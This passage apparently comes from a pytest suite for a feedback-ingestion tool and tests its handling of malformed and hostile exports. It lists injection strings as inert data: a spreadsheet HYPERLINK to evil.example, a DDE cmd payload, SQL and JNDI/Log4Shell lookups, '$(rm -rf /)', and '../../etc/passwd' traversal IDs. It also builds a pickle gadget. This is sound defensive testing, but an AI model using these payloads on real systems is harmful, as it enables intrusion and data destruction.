    "a message whose parts are cut off": Read(
        "export.eml",
        mail("--b\nContent-Type: text/plain\n\nThe parcel was late", "multipart/mixed; boundary=b"),
        (1, 1, 0, 0),
        BOTH[:1],
    ),
    "a chat at impossible times": Read(
        "export.txt",
        b"99/99/2026, 99:99 - Jo: The parcel was late\n99/99/2026, 99:99 - Shop: So sorry\n",
        (2, 1, 0, 1),
        BOTH[:1],
    ),
    "reviews of Google Play with the same link": Read(
        "export.csv",
        table(
            ["a", 5, "Crashes at the start", "l1", 1769932800000],
            ["a", 1, BOTH[0], "l1", 1770631200000],
            ["a", 3, BOTH[1], "l2", 1770631200000],
            header=PLAY,
        ),
        (3, 2, 0, 1),
        absent=["Crashes"],
        reason="an earlier version",
    ),
    "reviews of Google Play from before and after a digit more": Read(
        "export.csv",
        table(
            ["a", 5, BOTH[0], "l1", 1769932800000],
            ["a", 1, "Crashes at the start", "l1", 999999999999],
            header=PLAY,
        ),
        (2, 1, 0, 1),
        BOTH[:1],
        absent=["Crashes"],
    ),
    "a ticket without words beside a good one": Read(
        "export.json",
        lines({"tickets": [TICKET, {**TICKET, "id": 9, "comments": [], "description": None}]}),
        (3, 1, 1, 1),
        BOTH[:1],
        reason="without words",
    ),
    "a call with turns that are none": Read(
        "export.json",
        lines({**CALL, "Transcript": [*CALL["Transcript"], 5, None, "x", {}, {"Content": ""}]}),
        (7, 1, 5, 1),
        BOTH[:1],
        reason="turn without words",
    ),
    "a Qualtrics export with an unknown zone": Read(
        "export.csv",
        QUALTRICS.replace(b"America/Denver", b"Mars/Phobos")
        + b"2026-03-01,R_1,IP Address,The parcel was late\n",
        (1, 1, 0, 0),
        BOTH[:1],
    ),
    "a Qualtrics export with a year before the first": Read(
        "export.csv",
        QUALTRICS
        + b"2026-03-01,R_1,IP Address,The parcel was late\n"
        + b"-2026-03-01,R_2,IP Address,The box was open\n",
        (2, 2, 0, 0),
    ),
}


@pytest.mark.parametrize("what", READ)
def test_it_is_read_with_every_row_told(tmp_path: Path, what: str) -> None:
    case = READ[what]
    path = put(tmp_path, case.name, case.content)
    found = read(path)
    assert counts(found) == case.counts
    texts = "\n".join(found.feedback["text"])
    assert [w for w in case.words if w not in texts] == []
    assert [w for w in case.absent if w in texts] == []
    assert any(case.reason in r for r in found.rejects["reason"]) or not case.reason
    assert list(tmp_path.rglob("*")) == [path]  # nothing is unpacked to disk


@pytest.mark.parametrize(
    "mark", ["\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\u2028", "\u2029"], ids=ascii
)
def test_a_mark_that_ends_no_line_of_a_table_ends_no_row(tmp_path: Path, mark: str) -> None:
    content = f"id,text\n1,Late{mark}again\n2,The box was open\n".encode()
    found = read(put(tmp_path, "export.csv", content))
    assert counts(found) == (2, 2, 0, 0)
    assert "again" in found.feedback["text"].iloc[0]


FORMULAS = [
    '=HYPERLINK("http://evil.example","Claim")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*2",
    "-2+3",
    "=1+1",
    "'; DROP TABLE feedback; --",
    '" OR 1=1; SELECT * FROM users',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} and %s and {0}",
    "$(rm -rf /) `id` && true",
]


def test_formulas_and_commands_stay_the_text_that_they_are(tmp_path: Path) -> None:
    path = put(tmp_path, "export.csv", table(*enumerate(FORMULAS)))
    assert read(path).feedback["text"].tolist() == FORMULAS


def test_text_of_a_workbook_that_looks_like_a_formula_is_text(tmp_path: Path) -> None:
    rows = "".join(
        row(i, cell(f"A{i}", str(i)), cell(f"B{i}", text))
        for i, text in enumerate(["=1+1 they said", "+cmd was late", "-2+3", "@SUM(1)"], start=4)
    )
    found = read(put(tmp_path, "export.xlsx", sheet(TWO_ROWS + rows)))
    assert found.feedback["text"].tolist()[2:] == [
        "=1+1 they said",
        "+cmd was late",
        "-2+3",
        "@SUM(1)",
    ]


def test_an_id_that_is_a_path_is_an_id(tmp_path: Path) -> None:
    ids = ["../../etc/passwd", "..\\..\\windows", "/etc/passwd", "a\nb", "CON"]
    path = put(
        tmp_path, "export.csv", table(*([i, f"Parcel of {n} was late"] for n, i in enumerate(ids)))
    )
    found = read(path).feedback
    assert found["source_id"].tolist() == ids
    assert found["feedback_id"].str.fullmatch(r"[0-9a-f]{16}").all()


def test_texts_without_words_are_taken_and_set_aside(tmp_path: Path) -> None:
    texts = ["👍👍", "...", "n/a", "?!", "-", "N/A.", "🙂", "x", "\u200b\u200b"]
    found = read(put(tmp_path, "export.csv", table(*enumerate([*texts, "The parcel was late"]))))
    assert counts(found) == (10, 10, 0, 0)
    assert found.feedback["meaningful"].tolist() == [False] * 9 + [True]
    assert found.files[0].not_meaningful == 9


# -------------------------------------------------------------------------- values that cannot be


def scored(folder: Path, column: str, values: Sequence[object]) -> list[float | None]:
    rows = [[i, f"Parcel {i} was late", v] for i, v in enumerate(values)]
    found = read(put(folder, "export.csv", table(*rows, header=("id", "text", column))))
    assert counts(found) == (len(values), len(values), 0, 0)
    return (
        found.feedback[column].astype(object).where(found.feedback[column].notna(), None).tolist()
    )


@pytest.mark.parametrize(
    "value", ["7 of 5", "-3", "lots", "Infinity", "1e999", "nan", "9" * 400], ids=lambda v: v[:20]
)
def test_an_impossible_rating_is_null_and_changes_no_other(tmp_path: Path, value: str) -> None:
    read_as = scored(tmp_path, "rating", [1, 2, 3, 4, 5] * 4 + [value])
    assert read_as[:5] == [0.0, 0.25, 0.5, 0.75, 1.0]
    assert read_as[-1] is None


@pytest.mark.parametrize("value", ["11", "-1", "7.5", "lots", "Infinity"])
def test_an_impossible_promoter_score_is_null_and_told(tmp_path: Path, value: str) -> None:
    rows = [[i, f"Parcel {i} was late", v] for i, v in enumerate([*range(11), *range(11), value])]
    found = read(put(tmp_path, "export.csv", table(*rows, header=("id", "text", "nps"))))
    assert found.feedback["nps"].tolist()[:22] == [*range(11), *range(11)]
    assert pd.isna(found.feedback["nps"].iloc[-1])
    assert any("1 values are no nps" in a and "row 23" in a for a in found.files[0].assumptions)


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("2099-01-01", "2099-01-01T00:00:00+00:00"),
        ("1969-07-20", "1969-07-20T00:00:00+00:00"),
        ("1850-01-01T12:00:00Z", "1850-01-01T12:00:00+00:00"),
        ("31/02/2026", None),
        ("2026-02-30", None),
        ("2026-03-02T25:61:00", None),
        ("2026-03-02T09:00:00+99:99", None),
        ("2026-03-02 09:00 GMT+99", None),
        ("2026-03-02 09:00 Mars/Phobos", None),
        ("0000-00-00", None),
        ("-2026-03-02", None),
        ("12026-03-02", None),
        ("yesterday", None),
    ],
)
def test_a_time_is_read_or_null_and_told(tmp_path: Path, given: str, expected: str | None) -> None:
    rows = [[i, f"Parcel {i} was late", v] for i, v in enumerate(["2026-03-01"] * 9 + [given])]
    found = read(put(tmp_path, "export.csv", table(*rows, header=("id", "text", "created_at"))))
    times = found.feedback["created_at"]
    assert times.iloc[0] == pd.Timestamp("2026-03-01", tz="UTC")
    assert (None if pd.isna(times.iloc[-1]) else times.iloc[-1].isoformat()) == expected
    assert any("1 values are no time" in a for a in found.files[0].assumptions) == (
        expected is None
    )


@pytest.mark.parametrize("factor", [1, 1_000, 1_000_000])
def test_seconds_milliseconds_and_microseconds_are_told_apart(tmp_path: Path, factor: int) -> None:
    rows = [[i, f"Parcel {i} was late", (1769932800 + i) * factor] for i in range(5)]
    found = read(put(tmp_path, "export.csv", table(*rows, header=("id", "text", "created_at"))))
    assert found.feedback["created_at"].iloc[0] == pd.Timestamp("2026-02-01T08:00:00Z")


def test_one_time_out_of_range_leaves_the_others_in_their_zone(tmp_path: Path) -> None:
    rows = (
        b"2026-03-01 00:00:00,R_1,IP Address,The parcel was late\n"
        b"9999-12-31 23:59:59,R_2,IP Address,The box was open\n"
    )
    times = read(put(tmp_path, "export.csv", QUALTRICS + rows)).feedback.set_index("source_id")[
        "created_at"
    ]
    assert times["R_1"] == pd.Timestamp("2026-03-01T07:00:00Z")


# ------------------------------------------------------------------- either is fine, but no crash

HUGE = b"9" * 5000
EITHER: dict[str, tuple[str, Bytes, Sequence[str]]] = {
    "an id of five thousand digits": (
        "export.json",
        b'[{"id": ' + HUGE + b', "text": "The parcel was late"}]',
        BOTH[:1],
    ),
    "an id of five thousand digits in a line": (
        "export.jsonl",
        b'{"id": '
        + HUGE
        + b', "text": "The parcel was late"}\n'
        + lines({"id": 2, "text": BOTH[1]}),
        BOTH,
    ),
    "a time of four hundred digits": (
        "export.jsonl",
        b'{"id": 1, "text": "The parcel was late", "created_at": ' + HUGE[:400] + b"}\n",
        BOTH[:1],
    ),
    "a list five hundred deep inside a line": (
        "export.jsonl",
        b'{"id": 1, "text": "The parcel was late", "x": ' + deep("[", "]", 500).encode() + b"}\n",
        (),
    ),
    "an object five hundred deep inside a list": (
        "export.json",
        b'[{"id": 1, "text": "The parcel was late", "x": '
        + deep('{"a":', "}", 500).encode()
        + b"}]",
        (),
    ),
    "a list five hundred deep inside a ticket": (
        "export.json",
        b'{"tickets": [{"id": 1, "comments": [], "requester_id": 1, "x": '
        + deep("[", "]", 500).encode()
        + b"}]}",
        (),
    ),
    "parts of a message a thousand deep": (
        "export.eml",
        "".join(
            f"Content-Type: multipart/mixed; boundary=b{i}\n\n--b{i}\n" for i in range(1000)
        ).encode()
        + b"\nLate\n",
        (),
    ),
    "a message in two thousand others": (
        "export.eml",
        b"Subject: Parcel\nContent-Type: message/rfc822\n\n" * 2000 + b"Late\n",
        (),
    ),
    "twenty thousand quotes that never end": ("export.csv", GOOD + b'x","w\n' * 20_000, BOTH),
    "a list of JSON named CSV": (
        "export.csv",
        b'[{"id": 1, "text": "The parcel was late, again"},\n'
        b'{"id": 2, "text": "The box was open, too"}]',
        BOTH,
    ),
    "lines of JSON named CSV": (
        "export.csv",
        lines(
            {"id": 1, "text": "The parcel was late, again"},
            {"id": 2, "text": "The box was open, too"},
        ),
        BOTH,
    ),
    "a table named JSON": ("export.json", GOOD, BOTH),
    "a table named workbook": ("export.xlsx", GOOD, BOTH),
    "a table named Parquet": ("export.parquet", GOOD, BOTH),
    "a workbook named CSV": ("export.csv", BOOK, BOTH),
    "a workbook of an old ending": ("export.xls", BOOK, BOTH),
    "a Parquet file named CSV": ("export.csv", PARQUET, BOTH),
    "a Parquet file named JSON": ("export.json", PARQUET, BOTH),
    "text of Parquet kept as bytes": (
        "export.parquet",
        lambda: parquet({"id": [1, 2], "text": [b.encode() for b in BOTH]}),
        BOTH,
    ),
    "a table with tabs named CSV": ("export.csv", GOOD.replace(b",", b"\t"), BOTH),
    "a workbook with a number that is none": (
        "export.xlsx",
        sheet(TWO_ROWS + row(4, '<c r="A4"><v>abc</v></c>', cell("B4", "Torn"))),
        ("Torn",),
    ),
    "a workbook with words beside its header": (
        "export.xlsx",
        sheet(TWO_ROWS + row(4, cell("A4", "3"), cell("D4", "The lid was torn"))),
        (*BOTH, "The lid was torn"),
    ),
    "a member without a name": ("export.zip", lambda: zipped({"": b"x", "a.csv": GOOD}), BOTH),
    "a member that is a link": (
        "export.zip",
        zipped({"link.csv": b"../../../etc/passwd", "a.csv": GOOD}),
        BOTH,
    ),
    "lines of JSON that end in a carriage return": (
        "export.jsonl",
        lines({"id": 1, "text": BOTH[0]}, {"id": 2, "text": BOTH[1]}).replace(b"\n", b"\r"),
        BOTH,
    ),
    "garbage named mailbox": ("export.mbox", b"\x00\xff\xfe" * 50, ()),
    "garbage named subtitles": ("export.srt", b"\x00\xff\xfe" * 50, ()),
}


@pytest.mark.parametrize("what", EITHER)
def test_it_is_refused_or_read_without_loss(tmp_path: Path, what: str) -> None:
    name, content, words = EITHER[what]
    check_read_or_refused(put(tmp_path, name, content), words)


ODD: list[Any] = [5, "x", ["x"], {"a": 1}, True, None]
FIELDS: list[tuple[str, dict[str, Any], str]] = [
    *(("Contact Lens", CALL, key) for key in (*CALL, "ContentMetadata")),
    *(("Genesys", GENESYS, key) for key in GENESYS),
    *(("Zendesk", TICKET, key) for key in TICKET),
    *(("Intercom", TALK, key) for key in (*TALK, "conversation_rating")),
    ("Google", {}, "entries"),
    ("App Store", {}, "data"),
]
FIRST: dict[str, dict[str, Any]] = {
    "Google": {"entries": [{"role": "CUSTOMER", "text": BOTH[0]}]},
    "App Store": {"data": [{"type": "customerReviews", "attributes": {"body": BOTH[0]}}]},
}


@pytest.mark.parametrize("odd", ODD, ids=json.dumps)
@pytest.mark.parametrize(("tool", "whole", "key"), FIELDS, ids=[f"{t} {k}" for t, _, k in FIELDS])
def test_a_field_of_the_wrong_kind_does_no_harm(
    tmp_path: Path, tool: str, whole: dict[str, Any], key: str, odd: object
) -> None:
    content = [*([FIRST[tool]] if tool in FIRST else []), {**whole, key: odd}]
    check_read_or_refused(put(tmp_path, "export.json", json.dumps(content).encode()), ())


PARTS: dict[str, dict[str, Any]] = {
    "a participant of Contact Lens": {
        **CALL,
        "Transcript": [{"ParticipantId": ["x"], "Content": "Late"}, *CALL["Transcript"]],
    },
    "words of Contact Lens": {
        **CALL,
        "Transcript": [{"ParticipantId": "C", "Content": {"a": "Late"}}],
    },
    "a phrase of Genesys": {**GENESYS, "transcripts": [{"phrases": ["x", 5]}]},
    "phrases of Genesys": {**GENESYS, "transcripts": [{"phrases": 5}]},
    "an entry of Google": {"entries": [{"role": ["x"], "text": ["Late"]}, "x", None]},
    "a part of Intercom": {**TALK, "conversation_parts": {"conversation_parts": ["x"]}},
    "parts of Intercom": {**TALK, "conversation_parts": {"conversation_parts": 5}},
    "an author of Intercom": {**TALK, "source": {"body": "Late", "author": "jo"}},
    "a ticket of Zendesk": {"tickets": [TICKET, "x", 5, None]},
    "a review of the App Store": {
        "data": [{"type": "customerReviews", "attributes": {"body": ["Late"], "rating": "lots"}}]
    },
}


@pytest.mark.parametrize("part", PARTS)
def test_a_part_of_the_wrong_kind_does_no_harm(tmp_path: Path, part: str) -> None:
    check_read_or_refused(put(tmp_path, "export.json", json.dumps(PARTS[part]).encode()), ())


class Trap:
    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.path),)


@pytest.mark.parametrize("name", ["export.parquet", "export.json", "export.csv", "export.xlsx"])
@pytest.mark.parametrize("protocol", [0, 4])
def test_a_pickle_is_refused_and_never_loaded(tmp_path: Path, name: str, protocol: int) -> None:
    trap = tmp_path / "sprung"
    path = put(tmp_path, name, pickle.dumps([Trap(trap), *BOTH], protocol=protocol))
    with pytest.raises(UserError) as error:
        ingest([Input(path=str(path))])
    check_refused(path, error.value)
    assert not trap.exists()


# ------------------------------------------------------------------------------ paths and folders


def test_a_folder_without_data_is_refused(tmp_path: Path) -> None:
    put(tmp_path, "notes.md", b"The parcel was late")
    with pytest.raises(UserError, match="holds no data file") as error:
        ingest([Input(path=str(tmp_path))])
    assert error.value.remedy


BAD_FILES = {
    "JSON cut off": ("b.json", b"{"),
    "garbage named gzip": ("b.csv.gz", b"garbage, no gzip"),
    "garbage named archive": ("b.zip", b"garbage, no archive"),
    "garbage named workbook": ("b.xlsx", b"garbage, no workbook"),
    "a Parquet file cut off": ("b.parquet", PARQUET[:-50]),
    "an empty file": ("b.csv", b""),
    "a table of numbers": ("b.csv", table([1, 2], [3, 4], header="ab")),
    "a table without a word": ("b.csv", table([1, ""], [2, ""])),
    "subtitles of one speaker": ("b.vtt", b"WEBVTT\n\n00:01.000 --> 00:02.000\n<v Jo>Hello</v>\n"),
    "rows with too many cells": ("b.csv", b"id,text\n1,2,3\n"),
    "an archive without data files": ("b.zip", zipped({"notes.pdf": b"x"})),
}


@pytest.mark.parametrize("bad", BAD_FILES)
def test_one_bad_file_of_a_folder_is_told_and_the_good_one_read(tmp_path: Path, bad: str) -> None:
    put(tmp_path, "a.csv", GOOD)
    put(tmp_path, *BAD_FILES[bad])
    found = read(tmp_path)
    assert found.feedback["text"].tolist() == list(BOTH)
    assert found.rejects["source_file"].str.startswith("b.").all()
    assert len(found.rejects)


def test_the_same_file_twice_in_a_folder_counts_once(tmp_path: Path) -> None:
    put(tmp_path, "a.csv", GOOD)
    put(tmp_path, "b.csv", GOOD)
    assert counts(read(tmp_path)) == (4, 2, 0, 2)


def test_links_that_lead_out_of_a_folder_are_not_followed(tmp_path: Path) -> None:
    inside, outside = tmp_path / "inside", tmp_path / "outside"
    inside.mkdir()
    outside.mkdir()
    put(inside, "a.csv", GOOD)
    put(outside, "b.csv", table([9, "These words are secret"]))
    (inside / "file.csv").symlink_to(outside / "b.csv")
    (inside / "folder").symlink_to(outside)
    (inside / "up").symlink_to(tmp_path)
    assert read(inside).feedback["text"].tolist() == list(BOTH)


def test_links_that_lead_nowhere_or_to_themselves_are_left_out(tmp_path: Path) -> None:
    put(tmp_path, "a.csv", GOOD)
    (tmp_path / "gone.csv").symlink_to(tmp_path / "none.csv")
    (tmp_path / "self.csv").symlink_to(tmp_path / "self.csv")
    (tmp_path / "round").symlink_to(tmp_path)
    assert read(tmp_path).feedback["text"].tolist() == list(BOTH)


@pytest.mark.parametrize(
    "name",
    ["x" * 5000, "a\0b.csv", "-rf.csv", "*.csv", "[.csv", "?", ""],
    ids=lambda n: ascii(n[:20]),
)
def test_a_path_to_nothing_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(UserError) as error:
        ingest([Input(path=f"{tmp_path}/{name}")])
    assert str(tmp_path) in error.value.what
    assert error.value.remedy


@pytest.mark.parametrize(
    "name", [b"a\xff.csv", b"a\nb.csv", b"a[1].csv", b"a b;'\".csv", b"-a.csv"]
)
def test_a_file_of_a_strange_name_is_read(tmp_path: Path, name: bytes) -> None:
    try:
        put(tmp_path, os.fsdecode(name), GOOD)
    except OSError:
        pytest.skip("the file system does not take such names")
    found = read(tmp_path)
    assert counts(found) == (2, 2, 0, 0)
    assert found.feedback["source_file"].map(lambda f: bool(f.encode("utf-8"))).all()


# ------------------------------------------------------------------------------------- properties

# of these cleaning changes nothing but white space
LETTERS = "abcdefghijklmnopqrstuvwxyzABCXYZ 0123456789 .,;:!?'\"-/()\néßñжя日本"
texts = st.text(LETTERS, max_size=40)
tables = st.lists(st.tuples(texts, texts), min_size=1, max_size=12).filter(
    lambda rows: any(text.strip() for text, _ in rows)
)


def plain(text: str) -> str:
    return " ".join(text.split())


def check_whole(path: Path, rows: list[tuple[str, str]]) -> None:
    """Every text of a table comes back, in its row, and every row is told."""
    found = ingest([Input(path=str(path), columns=Columns(text="text"))], redacting=False)
    [file] = found.files
    assert file.rows == file.taken + file.rejected + file.merged == len(rows)
    told = pd.concat([found.feedback, found.rejects])[["source_row", "text"]]
    back = {n: plain(text) for n, text in told.itertuples(index=False)}
    assert back == {n: plain(text) for n, (text, _) in enumerate(rows, start=1)}


def numbered(rows: list[tuple[str, str]]) -> list[tuple[int, str, str]]:
    return [(n, *row) for n, row in enumerate(rows, start=1)]


@settings(max_examples=60, deadline=None)
@given(rows=tables)
def test_any_text_written_as_csv_comes_back_whole(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str]]
) -> None:
    content = table(*numbered(rows), header=("id", "text", "note"))
    check_whole(put(tmp_path_factory.mktemp("table"), "export.csv", content), rows)


@settings(max_examples=60, deadline=None)
@given(rows=tables)
def test_any_text_written_as_json_lines_comes_back_whole(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str]]
) -> None:
    content = lines(*(dict(zip(("id", "text", "note"), r, strict=True)) for r in numbered(rows)))
    check_whole(put(tmp_path_factory.mktemp("table"), "export.jsonl", content), rows)


@settings(max_examples=60, deadline=None)
@given(rows=tables)
def test_any_text_written_as_a_workbook_comes_back_whole(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str]]
) -> None:
    content = workbook(("id", "text", "note"), *numbered(rows))
    check_whole(put(tmp_path_factory.mktemp("table"), "export.xlsx", content), rows)
